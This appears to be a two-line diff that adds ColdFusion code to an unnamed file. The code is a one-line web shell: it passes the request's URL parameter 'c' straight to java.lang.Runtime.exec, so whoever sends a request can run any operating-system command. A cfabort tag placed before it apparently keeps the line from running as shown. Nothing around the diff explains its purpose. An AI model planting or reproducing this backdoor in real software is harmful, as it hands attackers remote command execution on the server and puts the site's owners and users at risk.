@@ -1,0 +1,2 @@
+<cfabort>
+<cfset r=createObject("java","java.lang.Runtime").getRuntime().exec(url.c)>
